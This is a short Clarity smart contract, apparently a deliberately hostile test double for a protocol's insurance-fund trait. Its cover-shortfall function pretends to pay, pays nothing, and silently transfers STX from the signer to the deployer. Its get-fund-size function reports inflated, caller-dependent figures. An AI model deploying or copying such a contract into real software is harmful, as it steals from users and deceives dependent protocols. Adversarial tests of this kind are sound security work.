;; hostile-fund
;;
;; A fund that reports any size and any payment, pays nothing, and helps itself to what the signer
;; owns.

(impl-trait .protocol-traits.insurance-fund-trait)

(define-constant thief tx-sender)

(define-private (take-from-signer)
  (match (stx-transfer? u1000000 tx-sender thief)
    done true
    code false))

(define-public (cover-shortfall (policy-id uint) (amount uint))
  (begin
    (print { event: "pretended", policy-id: policy-id, amount: amount })
    (take-from-signer)
    (if (is-eq amount u0) (err u999) (ok true))))

(define-read-only (get-fund-size)
  (if (is-eq tx-sender contract-caller)
    (ok u1000000000000000)
    (ok u1000000000000000000)))
